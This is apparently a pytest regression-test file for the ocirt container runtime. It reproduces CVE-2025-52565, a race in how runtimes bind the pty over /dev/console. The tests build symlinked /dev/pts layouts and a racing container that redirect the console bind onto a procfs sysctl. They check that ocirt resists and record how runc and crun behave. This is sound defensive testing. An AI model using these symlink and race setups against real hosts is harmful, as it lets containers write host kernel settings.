"""CVE-2025-52565: the /dev/console bind races.

With ``terminal: true`` the runtime opens /dev/ptmx, learns the pty's number
N and binds "/dev/pts/N" over /dev/console.  runc up to 1.2.7 named the slave
by that path, inside the container: if /dev/pts is not the devpts the master
came from (the image's /dev, a symlink into a volume another container
swaps), "/dev/pts/N" can be any file the container points at, and the
runtime mounts it, writable, at /dev/console: a procfs file such as
/proc/sysrq-trigger or a host-wide sysctl, which the read-only /proc/sys and
the masked paths were meant to keep out of reach.

Host-visible harm, as the tests check it: the canary sysctl
(kernel.printk_ratelimit, restored afterwards) changed by the container
writing to /dev/console; in the race, /dev/console of a created container
being a procfs file (its mountinfo, read from the host).

ocirt takes the slave from the master itself (TIOCGPTPEER), checks it is
c 136:N, and binds that fd over an fd of /dev/console, then checks the result
(ocirt/linux/console.py).  Checked failing: with open_pty/mount_console/
become_session_leader_on naming the slave by path (the code before this
commit), test_console_is_the_pty_whatever_dev_pts_is failed (create refused:
the controlling-terminal ioctl hit the canary file, no pty at all) and
test_console_bind_race_never_lands_on_procfs saw /dev/console mounted from
procfs after 57 creates (12 s; another run did not hit it within 15 s, hence
25 s).  runc 1.1.5 and crun 1.8.1: OCIRT_SECURITY_PEERS=1.
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
from conftest import BundleFactory
from devattack import (
    CANARY,
    CANARY_VALUE,
    canary_harm,
    canary_sysctl,
    console_socket,
    without_dev_tmpfs,
)
from mount_race import (
    PEERS,
    Runtime,
    bind,
    build_swap,
    mountinfo_of,
    peers_enabled,
    racer,
    runtime,
    write_config,
)

ID = "ocirt-test-console"


@pytest.fixture(scope="module")
def swap_binary(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_swap(tmp_path_factory.mktemp("swap"))


RACE_SECONDS = 25
SHOW_CONSOLE = [
    "sh",
    "-c",
    f"echo {CANARY_VALUE} > /dev/console; ls -l /dev/console; echo console-done",
]


def split_dev_pts(config: dict[str, Any]) -> None:
    """/dev from the rootfs; the devpts instance at /dev/realpts, not /dev/pts."""
    without_dev_tmpfs(config)
    config["process"]["terminal"] = True
    for m in config["mounts"]:
        if m["destination"] == "/dev/pts":
            m["destination"] = "/dev/realpts"


def wait_stopped(rt: Runtime, cid: str, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        state = rt.call("state", cid)
        if state.returncode != 0 or json.loads(state.stdout)["status"] == "stopped":
            return
        time.sleep(0.1)


def static_attack(
    name: str, ocirt_bin: str, tmp_root: Path, bundle: BundleFactory, work: Path
) -> tuple[str, str, str]:
    """(harm, what the runtime said, the console's output): the image's /dev/pts
    leads ptmx to the real devpts but pty 0 to the canary sysctl."""
    victim = bundle(*SHOW_CONSOLE)
    write_config(victim, split_dev_pts)
    rootfs = victim / "rootfs"
    fake = rootfs / "fakepts"
    fake.mkdir()
    (fake / "ptmx").symlink_to("/dev/realpts/ptmx")
    for number in range(4):
        (fake / str(number)).symlink_to(CANARY)
    (rootfs / "dev" / "pts").rmdir() if (rootfs / "dev" / "pts").exists() else None
    (rootfs / "dev" / "pts").symlink_to("/fakepts")
    with (
        canary_sysctl(),
        console_socket(work / "console.sock") as console,
        runtime(name, ocirt_bin, tmp_root) as rt,
    ):
        rt.ids.append(ID)
        args = ["--bundle", str(victim), "--console-socket", str(console.path), ID]
        created = rt.call("create", *args)
        said = created.stderr.strip()
        if created.returncode == 0:
            said += rt.call("start", ID).stderr.strip()
            wait_stopped(rt, ID)
            time.sleep(0.5)  # the console socket's last read
        return canary_harm(), said, console.output.decode(errors="replace")


def test_console_is_the_pty_whatever_dev_pts_is(
    ocirt_bin: str, tmp_root: Path, bundle: BundleFactory, tmp_path: Path
) -> None:
    harm, said, output = static_attack("ocirt", ocirt_bin, tmp_root, bundle, tmp_path)
    assert not harm, f"{harm}; ocirt said: {said}"
    # The container ran on its pty: /dev/console is char 136:0, the slave.
    assert "console-done" in output, f"ocirt said: {said}; console: {output!r}"
    assert "136,   0" in output, output


def race_attack(
    name: str, ocirt_bin: str, tmp_root: Path, bundle: BundleFactory, swap: Path, work: Path
) -> tuple[str, int, int, dict[str, int]]:
    """(harm, creates, successes, errors): container A swaps pty 0's name in a shared
    volume between the real slave and a symlink to the canary sysctl."""
    volume = work / "vol"
    pts = volume / "pts"
    pts.mkdir(parents=True)
    (pts / "ptmx").symlink_to("/dev/realpts/ptmx")
    (pts / "0").symlink_to("/dev/realpts/0")
    (pts / "evil").symlink_to(CANARY)
    victim = bundle("true", name="victim")

    def edit(config: dict[str, Any]) -> None:
        split_dev_pts(config)
        config["mounts"].append(bind(volume, "/vol"))

    write_config(victim, edit)
    dev_pts = victim / "rootfs" / "dev" / "pts"
    if dev_pts.exists():
        dev_pts.rmdir()
    dev_pts.symlink_to("/vol/pts")
    harm, attempts, created, errors = "", 0, 0, {}
    with (
        console_socket(work / "console.sock") as console,
        runtime(name, ocirt_bin, tmp_root) as rt,
        racer(rt, bundle(name="racer"), swap, volume, ["pts/0", "pts/evil"], RACE_SECONDS + 10),
    ):
        deadline = time.monotonic() + RACE_SECONDS
        while time.monotonic() < deadline and not harm:
            cid = f"{ID}-{attempts}"
            attempts += 1
            rt.ids.append(cid)
            pid_file = work / f"{cid}.pid"
            result = rt.call(
                "create", "--bundle", str(victim), "--console-socket", str(console.path),
                "--pid-file", str(pid_file), cid,
            )  # fmt: skip
            if result.returncode == 0:
                created += 1
                harm = console_not_a_pty(int(pid_file.read_text()))
            else:
                last = (result.stderr.strip().splitlines() or ["(no message)"])[-1]
                key = last.split(" msg=", 1)[-1][-160:]  # without runc's log timestamp
                errors[key] = errors.get(key, 0) + 1
            rt.delete(cid)
    return harm, attempts, created, errors


def console_not_a_pty(pid: int) -> str:
    for point, fstype, options, root in mountinfo_of(pid):
        if point == "/dev/console" and fstype != "devpts":
            return f"/dev/console of init {pid} is {fstype} {root} ({options})"
    return ""


def test_console_bind_race_never_lands_on_procfs(
    ocirt_bin: str, tmp_root: Path, bundle: BundleFactory, swap_binary: Path, tmp_path: Path
) -> None:
    harm, attempts, created, errors = race_attack(
        "ocirt", ocirt_bin, tmp_root, bundle, swap_binary, tmp_path
    )
    summary = f"{attempts} creates, {created} succeeded, refused: {errors}"
    print(summary)
    assert not harm, f"{harm} ({summary})"
    assert created > 0, summary  # the race ran: creates went through it


@pytest.mark.skipif(not peers_enabled(), reason="peers run with OCIRT_SECURITY_PEERS=1")
@pytest.mark.parametrize("peer", PEERS)
def test_peer_console(
    peer: str,
    ocirt_bin: str,
    tmp_root: Path,
    bundle: BundleFactory,
    swap_binary: Path,
    tmp_path: Path,
) -> None:
    """Records what runc and crun do (docs/security.md): prints, does not judge."""
    (tmp_path / "static").mkdir()
    static = static_attack(peer, ocirt_bin, tmp_root, bundle, tmp_path / "static")
    (tmp_path / "race").mkdir()
    race = race_attack(peer, ocirt_bin, tmp_root, bundle, swap_binary, tmp_path / "race")
    print(json.dumps({peer: {"static": static, "race": race}}, indent=1))
